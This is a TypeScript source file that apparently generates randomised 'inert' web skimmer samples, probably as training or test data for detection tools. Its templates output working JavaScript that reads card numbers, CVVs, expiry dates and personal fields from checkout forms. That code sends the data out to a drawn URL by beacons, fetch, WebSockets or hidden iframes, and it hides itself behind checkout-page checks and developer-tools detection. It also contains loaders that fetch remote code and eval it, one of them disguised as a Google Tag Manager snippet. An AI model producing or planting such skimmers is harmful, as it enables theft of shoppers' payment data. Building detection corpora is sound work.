import { concealed } from './conceal.ts';
import type { Random } from './random.ts';
import { cardFields, cvvFields, expiryFields, identifiers, personFields, quote, url } from './words.ts';

/** An inert skimmer of one of many designs: what to read, when, how to wrap it and where to send it are drawn apart. */
export function skimmer(r: Random): string {
  if (r.chance(0.22)) return loader(r);
  const [read, send, data, once, main] = identifiers(r, 5) as [string, string, string, string, string];
  const openness = r.pick([1, 0.8, 0.4, 0]);
  const body = [
    `var ${once}=${r.pick(['false', '0', "''"])};`,
    `function ${read}(){${collect(r, openness)}}`,
    `function ${send}(${data}){${exfiltrate(r, data, openness)}}`,
    `function ${main}(){var ${data}=${read}();if(${data}&&${data}!=${once}){${once}=${data};${send}(${encode(r, data)});}}`,
    trigger(r, main, openness),
  ];
  return wrap(r, r.chance(0.5) ? body.join('\n') : shuffleFunctions(body), openness);
}

function shuffleFunctions([first, read, send, main, last]: string[]): string {
  return [first, main, send, read, last].join('');
}

/** Statements that return what was typed, as text. */
function collect(r: Random, openness: number): string {
  const [out, item, index] = identifiers(r, 3) as [string, string, string];
  const fields = [...r.some(cardFields, r.int(1, 3)), r.pick(cvvFields), r.pick(expiryFields), ...r.some(personFields, r.int(0, 5))];
  const lookup = r.pick([
    (name: string) => `document.getElementById(${name})`,
    (name: string) => `document.querySelector('[name="'+${name}+'"]')`,
    (name: string) => `document.getElementsByName(${name})[0]`,
    (name: string) => `document.querySelector('#'+${name}.replace(/[^\\w-]/g,'_'))`,
  ]);
  switch (r.int(0, 7)) {
    case 0:
      return `var ${out}={};document.querySelectorAll(${concealed(r, r.pick(['input,select,textarea', 'input, select', 'form input', 'input']), openness)}).forEach(function(${item}){if(${item}.value)${out}[${item}.name||${item}.id]=${item}.value});return JSON.stringify(${out});`;
    case 1:
      return `var ${out}='',${item}=document.getElementsByTagName('input');for(var ${index}=0;${index}<${item}.length;${index}++){if(${item}[${index}].value.length>0)${out}+=${item}[${index}].name+'='+${item}[${index}].value+'&';}return ${out};`;
    case 2:
      return `var ${out}={},${item}=[${fields.map((field) => concealed(r, field, openness)).join(',')}];for(var ${index} in ${item}){try{${out}[${item}[${index}]]=${lookup(`${item}[${index}]`)}.value}catch(e){}}return JSON.stringify(${out});`;
    case 3:
      return `try{return jQuery(${quote(r.pick(['form', '#co-payment-form', '.checkout-form', '#payment_form_ccsave']))}).serialize()}catch(e){return ''}`;
    case 4:
      return `var ${out}=[];new FormData(document.forms[${r.int(0, 2)}]).forEach(function(${item},${index}){${out}.push(${index}+'='+${item})});return ${out}.join('&');`;
    case 5:
      return `var ${out}='';${fields.map((field) => `if(${lookup(quote(field))})${out}+=${quote(`${r.pick(['|', '&', ';'])}${field.slice(0, 3)}=`)}+${lookup(quote(field))}.value;`).join('')}return ${out};`;
    case 6:
      return `var ${out}={};for(var ${index}=0;${index}<document.forms.length;${index}++){var ${item}=document.forms[${index}].elements;for(var j=0;j<${item}.length;j++){if(/${r.pick(['card|cvv|exp|cc', 'number|cvc|month|year', 'cc_|billing|pay', 'card|pass|mail'])}/i.test(${item}[j].name))${out}[${item}[j].name]=${item}[j].value}}return JSON.stringify(${out});`;
    default:
      return `var ${out}=${fields.map((field) => `($(${quote(`#${field.replace(/[^\w-]/g, '_')}`)}).val()||'')`).join("+'|'+")};return ${out}.length>${r.int(10, 30)}?${out}:'';`;
  }
}

function encode(r: Random, data: string): string {
  return r.pick([
    data,
    `btoa(${data})`,
    `encodeURIComponent(${data})`,
    `btoa(unescape(encodeURIComponent(${data})))`,
    `encodeURIComponent(btoa(${data}))`,
    `${data}.split('').map(function(c){return c.charCodeAt(0)^${r.int(1, 99)}}).join('-')`,
    `btoa(btoa(${data}))`,
    `${data}.split('').reverse().join('')`,
  ]);
}

function exfiltrate(r: Random, data: string, openness: number): string {
  const [one, other] = identifiers(r, 2) as [string, string];
  const to = concealed(r, url(r), openness);
  const parameter = r.pick(['?d=', '?q=', '?hash=', '?data=', '?t=', '?id=']);
  switch (r.int(0, 11)) {
    case 0:
    case 1:
      return `${r.pick([`new Image()`, `document.createElement('img')`])}.src=${to}+${quote(parameter)}+${data};`;
    case 2:
      return `fetch(${to},{method:'POST',${r.pick(["mode:'no-cors',", '', "credentials:'omit',"])}body:${data}});`;
    case 3:
      return `var ${one}=new XMLHttpRequest();${one}.open('POST',${to},true);${one}.setRequestHeader('Content-type','application/x-www-form-urlencoded');${one}.send('${r.pick(['data', 'info', 'p'])}='+${data});`;
    case 4:
      return `navigator.sendBeacon(${to},${data});`;
    case 5:
      return `var ${one}=new WebSocket(${to}.replace(/^(https?:)?/,'wss:'));${one}.onopen=function(){${one}.send(${data})};`;
    case 6:
      return `jQuery.ajax({url:${to},type:'POST',data:{${r.pick(['data', 'd', 'x'])}:${data}},dataType:'${r.pick(['json', 'text'])}',success:function(){return false}});`;
    case 7:
      return `var ${one}=document.createElement('form');${one}.method='POST';${one}.action=${to};${one}.style.display='none';var ${other}=document.createElement('input');${other}.name='d';${other}.value=${data};${one}.appendChild(${other});document.body.appendChild(${one});${one}.submit();`;
    case 8:
      return `var ${one}=document.createElement('script');${one}.src=${to}+${quote(parameter)}+${data};document.head.appendChild(${one});`;
    case 9:
      return `var ${one}=document.createElement('iframe');${one}.width=0;${one}.height=0;${one}.style.visibility='hidden';${one}.src=${to}+${quote(parameter)}+${data};document.body.appendChild(${one});`;
    case 10:
      return `$.post(${to},{${r.pick(['info', 'value', 'statistics_hash'])}:${data}});`;
    default:
      return `var ${one}=document.createElement('link');${one}.rel='${r.pick(['prefetch', 'dns-prefetch', 'stylesheet'])}';${one}.href=${to}+${quote(parameter)}+${data};document.head.appendChild(${one});`;
  }
}

function trigger(r: Random, main: string, openness: number): string {
  switch (r.int(0, 9)) {
    case 0:
      return `setInterval(${main},${r.pick([500, 800, 1000, 3000])});`;
    case 1:
      return `document.addEventListener('submit',${main},true);`;
    case 2:
      return `document.querySelectorAll('button,a.button,input[type=submit]').forEach(function(b){b.addEventListener('click',${main})});`;
    case 3:
      return `document.addEventListener('${r.pick(['blur', 'change', 'focusout'])}',function(){${main}()},true);`;
    case 4:
      return `jQuery(document).on('${r.pick(['click', 'mousedown', 'change'])}','${r.pick(['button', '#place-order', '.btn-checkout', 'input'])}',${main});`;
    case 5:
      return `window.addEventListener('${r.pick(['beforeunload', 'pagehide', 'unload'])}',${main});`;
    case 6:
      return `document.addEventListener('${r.pick(['keyup', 'keydown', 'input'])}',function(e){${main}()});`;
    case 7:
      return `for(var z=0;z<document.forms.length;z++){document.forms[z].addEventListener('submit',${main});}`;
    case 8:
      return `document[${concealed(r, 'addEventListener', openness)}](${concealed(r, 'click', openness)},${main});`;
    default:
      return `var b=document.getElementById(${quote(r.pick(['place_order', 'payment-button', 'submit', 'onestepcheckout-place-order']))});if(b){b.onclick=${main}}else{setTimeout(${main},${r.int(2, 9)}000)}`;
  }
}

function wrap(r: Random, body: string, openness: number): string {
  const gate = r.pick([
    '',
    '',
    `if(/${r.pick(['checkout', 'onepage', 'checkout|payment|onestep', 'cart|order|pay'])}/i.test(location.href))`,
    `if(location.href.indexOf(${concealed(r, r.pick(['checkout', 'onepage', 'payment']), openness)})!==-1)`,
    `if((new RegExp(${concealed(r, 'onepage|checkout|onestep|firecheckout', openness)})).test(window.location))`,
    `if(window.outerWidth-window.innerWidth<160&&window.outerHeight-window.innerHeight<160)`,
    `if(!localStorage.getItem('${r.pick(['_seen', '__cfduid', 'sess'])}'))`,
  ]);
  const guarded = gate ? `${gate}{${body}}` : body;
  switch (r.int(0, 5)) {
    case 0:
      return `(function(){${guarded}})();`;
    case 1:
      return `document.addEventListener('DOMContentLoaded',function(){${guarded}});`;
    case 2:
      return `jQuery(document).ready(function($){${guarded}});`;
    case 3:
      return `window.addEventListener('load',function(){setTimeout(function(){${guarded}},${r.int(1, 5)}000)});`;
    case 4:
      return `try{!function(){${guarded}}()}catch(e){}`;
    default:
      return guarded;
  }
}

/** The first stage of a skimmer: looks harmless, waits for the checkout and brings the rest from elsewhere. */
function loader(r: Random): string {
  const [a, b, c] = identifiers(r, 3) as [string, string, string];
  const openness = r.pick([0.7, 0.2, 0]);
  const to = concealed(r, url(r), openness);
  const gate = `${r.pick(['location.pathname', 'window.location.href', 'document.location.href'])}.${r.pick(['indexOf', 'search'])}(${concealed(r, r.pick(['checkout', 'onepage', 'payment', 'order']), openness)})>-1`;
  switch (r.int(0, 5)) {
    case 0:
      return `(function(w,d,s,l,i){if(${gate}){var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=${to};f.parentNode.insertBefore(j,f);}})(window,document,'script','dataLayer','GTM-${r.int(10000, 99999)}');`;
    case 1:
      return `if(${gate}){var ${a}=new WebSocket(${to}.replace(/^(https?:)?/,'wss:'));${a}.onmessage=function(${b}){${r.pick([`eval(${b}.data)`, `new Function(${b}.data)()`])}};}`;
    case 2:
      return `var ${a}=document.createElement('script');${a}.src=${to};if(${gate})document.head.appendChild(${a});`;
    case 3:
      return `fetch(${to}).then(function(${a}){return ${a}.text()}).then(function(${a}){var ${b}='';for(var ${c}=0;${c}<${a}.length;${c}++)${b}+=String.fromCharCode(${a}.charCodeAt(${c})^${r.int(2, 60)});if(${gate})(0,eval)(${b})});`;
    case 4:
      return `var ${a}=new Image();${a}.onerror=function(){if(${gate}&&!window.${b}){window.${b}=1;var ${c}=document.createElement('script');${c}.text=atob(${quote(btoa(skimmerText(r)))});document.body.appendChild(${c})}};${a}.src='${r.pick(['x', '1', '/none.png'])}';`;
    default:
      return `setTimeout(function(){if(${gate}){var ${a}=new XMLHttpRequest();${a}.open('GET',${to});${a}.onload=function(){${r.pick(['eval', 'window.setTimeout', 'Function'])}(${a}.responseText)${r.chance(0.3) ? '()' : ''}};${a}.send()}},${r.int(1, 5)}000);`;
  }
}

function skimmerText(r: Random): string {
  const [read, data] = identifiers(r, 2) as [string, string];
  return `function ${read}(){${collect(r, 1)}};setInterval(function(){var ${data}=${read}();if(${data}){${exfiltrate(r, data, 1)}}},2000);`;
}
